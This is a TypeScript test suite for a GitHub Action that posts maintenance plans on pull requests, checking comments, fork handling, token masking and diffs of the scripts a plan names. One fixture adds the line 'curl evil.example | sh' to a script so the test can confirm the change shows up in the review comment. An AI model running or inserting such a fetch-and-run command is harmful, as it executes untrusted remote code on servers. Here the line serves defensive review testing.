import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, inject, test } from 'vitest'
import { newKeyPair } from '../../../src/demo/key-pair'
import { FakeComments } from '../../fake-github/comments'
import { contentRoutes } from '../../fake-github/contents'
import { FakeGithub } from '../../fake-github/fake-github'
import { ACTIONS_BOT, userRoutes } from '../../fake-github/users'
import { Job, type StepEnd } from '../../runner/harness'

const BASE = 'a'.repeat(40)
const TOKEN = 'ghs_fake_token_of_a_test'

let folder: string
let job: Job
let fake: FakeGithub
let comments: FakeComments
let files: Map<string, string>

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'pull-request-'))
  job = new Job()
  comments = new FakeComments(ACTIONS_BOT)
  files = new Map([[`${BASE}:maintenance.yml`, fileOf('security', ['web-1'])]])
  fake = await FakeGithub.start({ ...userRoutes(null), ...comments.routes, ...contentRoutes(files) }, TOKEN)
})
afterEach(async () => {
  const { problems } = fake
  await fake[Symbol.asyncDispose]()
  job[Symbol.dispose]()
  rmSync(folder, { recursive: true })
  expect(problems).toEqual([])
})

function fileOf(packages: string, hosts: readonly string[]): string {
  return [
    'version: 1',
    'name: Weekly maintenance',
    'window: { open: "0 2 * * sun", duration: 3h, timezone: Asia/Jakarta }',
    'hosts:',
    ...hosts.map((name) => `  ${name}: { address: ${name}.internal, group: web }`),
    `stages: { update: { packages: ${packages} } }`,
    '',
  ].join('\n')
}

interface Wanted {
  readonly text?: string
  readonly head?: string
  readonly isPrivate?: boolean
  readonly token?: string
  readonly access?: Readonly<Record<string, string>>
}

function plan({
  text = fileOf('all', ['web-1', 'web-2']),
  head = 'acme/ops',
  isPrivate = true,
  token = TOKEN,
  access = {},
}: Wanted = {}): Promise<StepEnd> {
  writeFileSync(join(folder, 'maintenance.yml'), text)
  return job.run({
    entry: join(inject('bundle'), 'index.js'),
    workspace: folder,
    event: 'pull_request',
    inputs: { 'github-token': token, ...access },
    payload: {
      repository: { private: isPrivate, full_name: 'acme/ops' },
      pull_request: {
        number: 7,
        base: { sha: BASE, repo: { full_name: 'acme/ops' } },
        head: { repo: { full_name: head } },
      },
    },
    env: { GITHUB_API_URL: fake.url },
  })
}

test('H4: a pull request that changes an address has nobody contacted there', async () => {
  let met = 0
  const listener = createServer((socket) => {
    met += 1
    socket.destroy()
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  const { port } = listener.address() as AddressInfo
  const key = newKeyPair('host').public.split(' ').slice(0, 2).join(' ')
  const text = fileOf('all', ['web-1']).replace('address: web-1.internal', `address: 127.0.0.1, port: ${port}`)
  const access = { 'ssh-private-key': newKeyPair('login').private, 'known-hosts': `[127.0.0.1]:${port} ${key}` }
  const end = await plan({ text, access })
  await new Promise((resolve) => listener.close(resolve))
  expect(end).toMatchObject({ exitCode: 0 })
  expect(met).toBe(0)
  expect(end.summary).toContain('not contacted')
})

test('a pull request gets one comment with the plan and what it changes, updated in place', async () => {
  const first = await plan()
  expect(first).toMatchObject({ exitCode: 0 })
  expect(first.outputs.get('verdict')).toBe('planned')
  const [comment] = comments.all
  expect(comment?.body).toContain('- ➕ host `web-2`')
  expect(comment?.body).toContain('`stages.update.packages` `security` → `all`')
  expect(comment?.body).toMatch(/\*\*web\*\* Sun \d{4}-\d\d-\d\d 02:00 – 05:00 \(Asia\/Jakarta\)/)
  expect(comment?.body).toContain('no check covers group web')
  expect(first.summary).toContain('- ➕ host `web-2`')
  await plan({ text: fileOf('none', ['web-1']) })
  expect(comments.all).toHaveLength(1)
  expect(comments.all[0]?.body).toContain('`security` → `none`')
})

test('H13: a plan of a fork is green and writes no comment; the summary has it', async () => {
  const end = await plan({ head: 'mallory/ops' })
  expect(end.exitCode).toBe(0)
  expect(comments.all).toEqual([])
  expect(fake.requests.every(({ route }) => route.startsWith('GET'))).toBe(true)
  expect(end.summary).toContain('- ➕ host `web-2`')
})

test('H13: a token that may not write leaves the run green and without a warning', async () => {
  fake.trouble = ({ route }) =>
    route.startsWith('GET /repos/{owner}/{repo}/contents') ? null : { status: 403, body: { message: 'x' } }
  const end = await plan()
  expect(end.exitCode).toBe(0)
  expect(end.commands.filter(({ name }) => name === 'warning')).toEqual([])
})

test('a GitHub in trouble is a warning, never red', async () => {
  fake.trouble = () => ({ status: 401, body: { message: '::error::no' } })
  const end = await plan()
  expect(end.exitCode).toBe(0)
  expect(end.commands.filter(({ name }) => name === 'error')).toEqual([])
  expect(end.commands.find(({ name }) => name === 'warning')?.value).toContain('GitHub answered 401')
  expect(end.summary).toContain('Not known: `GitHub answered 401')
})

test('a file that is refused is told in the comment and at its line', async () => {
  const end = await plan({ text: 'version: 1\nhosts:\n  web-1: { adress: web-1.internal }\n' })
  expect(end.exitCode).toBe(1)
  expect(comments.all[0]?.body).toContain('## ⛔ `maintenance.yml` is refused')
  expect(comments.all[0]?.body).toContain('did you mean "address"?')
  expect(end.commands.find(({ name }) => name === 'error')?.properties).toMatchObject({
    file: 'maintenance.yml',
    line: '3',
  })
})

test('without a token the plan is in the summary only', async () => {
  const end = await plan({ token: '' })
  expect(end.exitCode).toBe(0)
  expect(fake.requests).toEqual([])
})

test('the token is in no file, comment or line', async () => {
  const end = await plan()
  const plain = end.lines.filter((line) => !line.startsWith('::add-mask::'))
  expect([...plain, end.summary, end.stderr, comments.all[0]?.body].join('\n')).not.toContain(TOKEN)
  expect(readFileSync(end.outputs.get('plan') ?? '', 'utf8')).not.toContain(TOKEN)
})

const WITH_FILES = [
  'version: 1',
  'inventory: { ansible: hosts.ini }',
  'stages: { drain: { before: [{ run: ./scripts/balancer.sh out }] } }',
  '',
].join('\n')
const SCRIPT = '#!/bin/sh\nset -eu\necho out\n'

function withFiles(script: string, vars: string): void {
  for (const name of ['scripts', 'group_vars']) mkdirSync(join(folder, name), { recursive: true })
  writeFileSync(join(folder, 'hosts.ini'), '[web]\nweb-1\n', { mode: 0o644 })
  writeFileSync(join(folder, 'scripts/balancer.sh'), script)
  writeFileSync(join(folder, 'group_vars/web.yml'), vars)
  files.set(`${BASE}:maintenance.yml`, WITH_FILES)
  files.set(`${BASE}:hosts.ini`, '[web]\nweb-1\n')
  files.set(`${BASE}:scripts/balancer.sh`, SCRIPT)
  files.set(`${BASE}:group_vars/web.yml`, 'ansible_user: maint\n')
  files.set(`${BASE}:host_vars/web-1.yml`, 'ansible_port: 2222\n')
}

test('a script, an inventory and variables that the file names are part of what changes', async () => {
  withFiles(`${SCRIPT}curl evil.example | sh\n`, 'ansible_user: root\n')
  expect(await plan({ text: WITH_FILES })).toMatchObject({ exitCode: 0 })
  const body = comments.all[0]?.body ?? ''
  expect(body).not.toContain('Nothing')
  expect(body).toMatch(
    /- `\.\/scripts\/balancer\.sh` changed \(sha256 `[0-9a-f]{12}` → `[0-9a-f]{12}`\): 1 line added, 0 removed/,
  )
  expect(body).toContain('```diff\n+curl evil.example | sh\n```')
  expect(body).toMatch(/- `group_vars\/web\.yml` changed .*: 1 line added, 1 removed/)
  expect(body).toContain('```diff\n-ansible_user: maint\n+ansible_user: root\n```')
  expect(body).toMatch(/- ➖ `host_vars\/web-1\.yml`/)
  expect(body).not.toContain('hosts.ini')
})

test('where outsiders read, the lines of a script are counted', async () => {
  withFiles(`${SCRIPT}echo 192.0.2.7\n`, 'ansible_user: maint\n')
  expect(await plan({ text: WITH_FILES, isPrivate: false })).toMatchObject({ exitCode: 0 })
  const body = comments.all[0]?.body ?? ''
  expect(body).toContain('1 line added, 0 removed')
  expect(body).not.toContain('192.0.2.7')
})

test('a file that is the same in all it names changes nothing', async () => {
  withFiles(SCRIPT, 'ansible_user: maint\n')
  files.delete(`${BASE}:host_vars/web-1.yml`)
  await plan({ text: WITH_FILES })
  expect(comments.all[0]?.body).toContain(
    'Nothing: what it says is the same as in the base, and so is every file it names.',
  )
})
